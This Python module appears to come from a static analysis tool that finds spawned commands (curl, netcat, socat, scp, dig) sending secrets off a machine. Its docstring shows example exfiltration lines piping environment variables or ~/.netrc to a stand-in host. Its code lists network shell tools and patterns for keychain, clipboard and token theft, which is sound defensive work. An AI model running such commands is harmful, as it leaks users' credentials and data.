"""What leaves through programs that are started: curl, wget, netcat, secure copies, look-ups.

In: `Execution`s of processes. Out: an `Effect` for each command that sends, with the host it names and the data that reach its words, its
input, or what is piped or substituted into it.

    execFile("curl", ["-d", secret, address])          the words carry the secret
    spawn("curl", ["-d", "@-", address]).stdin.end(x)  x is what is sent
    env | curl --data-binary @- https://a.example      so is what other commands print
    curl -F "f=@$HOME/.netrc" https://a.example        and a file that the program reads by itself
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from itertools import pairwise

from mcp_sast.dataflow.analysis import Analysis
from mcp_sast.dataflow.facts import Trace
from mcp_sast.dataflow.values import Constant, Value
from mcp_sast.effects.commands import FETCHERS, Parts, Simple, text_of_parts
from mcp_sast.effects.data import Data, once
from mcp_sast.effects.destinations import Destinations
from mcp_sast.effects.effect import Datum, Destination, Effect
from mcp_sast.effects.execution import Execution

_HTTP = FETCHERS | {"https", "httpie", "xh"}
_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
_COPIES = frozenset({"scp", "rsync", "sftp", "ssh", "rclone", "ftp"})
_LOOK_UPS = frozenset({"dig", "nslookup", "host"})
_SENDS = _HTTP | _SOCKETS | _COPIES | _LOOK_UPS

_SCHEME = re.compile(r"[a-z][a-z0-9+.]*://", re.IGNORECASE)
_HOST = re.compile(r"(?:[\w-]+\.)+[a-z]{2,}\.?(?::\d+)?(?:[/?].*)?$|(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:/.*)?$", re.IGNORECASE)
_COPY_TARGET = re.compile(r"(?:[\w.-]+@)?((?:[\w-]+\.)+[\w-]+):", re.IGNORECASE)
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/\d+")
_SOCAT = re.compile(r"(?:TCP|UDP|OPENSSL|SSL)[46]?(?:-CONNECT)?:([^:,]+)", re.IGNORECASE)
# Flags whose next word is a value and no address.
_VALUE_FLAGS = frozenset({
    "-x", "--request", "-h", "--header", "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--json", "-f", "--form", "-o",
    "--output", "-u", "--user", "-a", "--user-agent", "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-m", "--max-time",
    "--connect-timeout", "--retry", "-t", "--upload-file", "--post-data", "--post-file", "--body-data", "--body-file", "--method", "-w",
    "--write-out", "-p", "-i", "-timeoutsec", "-method", "-body", "-headers", "-outfile", "-contenttype", "--proxy", "-q", "--key",
})
# `-d @file`, `-F name=@file`, `--post-file=file`, `-T file`: the program reads the file by itself.
_AT_FILE = re.compile(r"(?:^|=|^[\w.-]+=)[@<](.+)$")
_FILE_OPTION = re.compile(r"^--(?:post-file|body-file|upload-file)=(.+)$")
_FILE_FLAGS = frozenset({"-T", "--upload-file", "--post-file", "--body-file", "-InFile"})
_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)")
_SHELL_OWN = frozenset({"HOME", "PWD", "OLDPWD", "PATH", "SHELL", "TMPDIR", "RANDOM", "IFS", "LANG", "USER", "LOGNAME", "HOSTNAME", "UID"})
_ENVIRONMENT = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
_READERS = frozenset({
    "cat", "tac", "head", "tail", "base64", "base32", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd", "tar", "zip", "strings",
    "grep", "sed", "awk", "cut", "sort", "less", "more", "dd", "openssl", "gpg", "find",
})
_CREDENTIALS = (
    (re.compile(r"^security find-(?:generic|internet)-password|^secret-tool lookup|^kwallet-query|^pass show"), "keychain"),
    (re.compile(r"^(?:pbpaste|xclip\b.*-o|xsel\b|wl-paste|get-clipboard|powershell.*get-clipboard)"), "clipboard"),
    (re.compile(r"^(?:gh auth token|gcloud auth print-\w+-token|az account get-access-token|op read)"), "login"),
)
_PATH_WORD = re.compile(r"[/~\\]|^\.[a-z]|\.\w+$|^\$HOME", re.IGNORECASE)


class SpawnedSends:
    """One for each package."""

    def __init__(self, analysis: Analysis, destinations: Destinations, data: Data) -> None:
        self._interner = analysis.interner
        self._destinations = destinations
        self._data = data

    def effects(self, executions: Iterable[Execution]) -> tuple[Effect, ...]:
        """What the commands of executions send, in their order."""
        return tuple(effect for one in executions if one.kind == "process" for effect in self._of_execution(one))

    def _of_execution(self, execution: Execution) -> Iterator[Effect]:
        lines = execution.commands or execution.written_to
        for line in lines:
            for index, command in enumerate(line):
                kind, addresses = _addresses(command)
                if not addresses:
                    continue
                judged: dict[Destination, None] = {}
                for address in addresses:
                    judged.update(dict.fromkeys(self._destinations.judge_parts(address)))
                data = self._data_of(execution, list(line), index)
                if execution.written_to and not data:
                    continue  # the start of the program is an effect already
                yield Effect(
                    kind, execution.reached, execution.site, tuple(judged), data, host_site=execution.started_at
                )

    # ------------------------------------------------------------------------------------------------------------------- data

    def _data_of(self, execution: Execution, line: list[Simple], index: int) -> tuple[Datum, ...]:
        command = line[index]
        found: list[Datum] = []
        values = [*execution.input] if _reads_input(command) else []
        if not execution.written_to:
            values += [part for word in command.arguments for part in word if isinstance(part, Value)]
            found.extend(self._of_words(execution, command))
            for source in (*_feeding(line, index), *([command] if command.program not in _SENDS else [])):
                found.extend(self._printed(execution, source))
        return once((*found, *self._data.among(values)))

    def _of_words(self, execution: Execution, command: Simple) -> Iterator[Datum]:
        """Files that the program is told to read, variables that the shell puts in."""
        words = command.arguments
        for index, word in enumerate(words):
            text = text_of_parts(word)
            path = _FILE_OPTION.match(text) or (_AT_FILE.search(text) if index and _takes_data(text_of_parts(words[index - 1])) else None)
            if path is not None and path.group(1) != "-":
                yield self._file(execution, path.group(1))
            elif index and text_of_parts(words[index - 1]) in _FILE_FLAGS and text != "-":
                yield self._file(execution, text)
            yield from self._variables(execution, text)
        if command.program in _COPIES:
            for word in words:
                text = text_of_parts(word)
                if not text.startswith("-") and not _COPY_TARGET.match(text) and _PATH_WORD.search(text):
                    yield self._file(execution, text)
        for sign, word in command.redirects:
            if sign == "<":
                yield self._file(execution, text_of_parts(word))

    def _printed(self, execution: Execution, command: Simple) -> Iterator[Datum]:
        """What a command prints that is piped or substituted into another."""
        shown = " ".join(map(text_of_parts, command.words))
        words = [text_of_parts(word) for word in command.arguments]
        if command.program in _ENVIRONMENT:
            names = [word for word in words if not word.startswith("-")] if command.program == "printenv" else []
            for name in names or ["*"]:
                yield self._made(execution, "environment", name)
        for pattern, name in _CREDENTIALS:
            if pattern.search(shown):
                yield self._made(execution, "credential", name)
        if command.program in _READERS:
            for word in words:
                if not word.startswith("-") and _PATH_WORD.search(word):
                    yield self._file(execution, word)
        for word in words:
            yield from self._variables(execution, word)

    def _variables(self, execution: Execution, text: str) -> Iterator[Datum]:
        for name in _VARIABLE.findall(text):
            if name not in _SHELL_OWN and name.upper() == name and len(name) > 1:
                yield self._made(execution, "environment", name)

    def _file(self, execution: Execution, path: str) -> Datum:
        made = self._made(execution, "file", path, self._interner.constant(path))
        kind = "environment" if re.fullmatch(r"/proc/[\w$]+/environ", path) else "file"
        return made if kind == "file" else self._made(execution, kind, "*")

    def _made(self, execution: Execution, kind: str, name: str, origin: Constant | None = None) -> Datum:
        return self._data.of(Trace(self._interner.source(kind, name, execution.site, origin), (), ()))


def _feeding(line: list[Simple], index: int) -> Iterator[Simple]:
    """The commands whose output a command gets: those piped into it and those substituted in it, with theirs."""
    command = line[index]
    yield from (one for one in line if one.inside is command)
    while line[index].is_piped and index:
        index -= 1
        yield line[index]
        yield from (one for one in line if one.inside is line[index])


def _takes_data(flag: str) -> bool:
    return flag in ("-d", "-F") or flag.startswith(("--data", "--form", "--json"))


def _reads_input(command: Simple) -> bool:
    """Does what is written to the process go out? Netcat sends it as it is; others where a word says so."""
    if command.program in _SOCKETS | {"ssh"}:
        return True
    return any(text_of_parts(word).endswith(("@-", "=-", "/dev/stdin")) or text_of_parts(word) == "-" for word in command.arguments)


def _addresses(command: Simple) -> tuple[str, list[Parts]]:
    """The kind of sink that a command is, and the addresses it sends to; none if it sends nothing."""
    for _, word in command.redirects:
        device = _DEVICE.match(text_of_parts(word))
        if device is not None:
            return "socket", [(f"//{device.group(1)}",)]
    name = command.program
    if name not in _SENDS:
        return "", []
    words = command.arguments
    if name in _HTTP:
        return "http", list(_of_http(words))
    if name in _COPIES:
        targets = (_COPY_TARGET.match(text_of_parts(word)) for word in words)
        return "socket", [(f"//{target.group(1)}",) for target in targets if target is not None] + list(_of_scheme(words))
    if name == "socat" or name == "openssl":
        found = [match.group(1) for word in words if (match := _SOCAT.search(text_of_parts(word)))]
        if name == "openssl":
            pairs = pairwise(words)
            found = [text_of_parts(b).partition(":")[0] for a, b in pairs if text_of_parts(a) == "-connect"]
        return "socket", [(f"//{host}",) for host in found]
    plain = _without_flags(words)
    if name in _LOOK_UPS:
        return "dns", [("//", *word) for word in plain if not text_of_parts(word).startswith(("+", "@"))][:1]
    return "socket", [("//", *word) for word in plain[:1]]


def _of_http(words: list[Parts]) -> Iterator[Parts]:
    found = list(_of_scheme(words))
    yield from found
    if found:
        return
    before = ""
    for word in words:
        text, flag = text_of_parts(word), before.lower()
        before = text
        if text.startswith("-") or flag in _VALUE_FLAGS:
            continue
        if isinstance(word[0], Value):
            yield word
        elif _HOST.match(text):
            yield ("//", *word)


def _of_scheme(words: list[Parts]) -> Iterator[Parts]:
    before = ""
    for word in words:
        first = word[0] if word else ""
        if isinstance(first, str) and before.lower() not in _VALUE_FLAGS:
            start = first.partition("=")[2] if first.startswith("--url=") else first
            if _SCHEME.match(start):
                yield (start, *word[1:])
        before = text_of_parts(word)


def _without_flags(words: list[Parts]) -> list[Parts]:
    """The words that are no flags; a flag with a number or a file behind it takes that along."""
    out: list[Parts] = []
    skip = False
    for word in words:
        text = text_of_parts(word)
        if skip or text.startswith("-"):
            skip = not skip and text in ("-w", "-q", "-p", "-s", "-i", "-t", "-type", "-x")
            continue
        out.append(word)
    return out


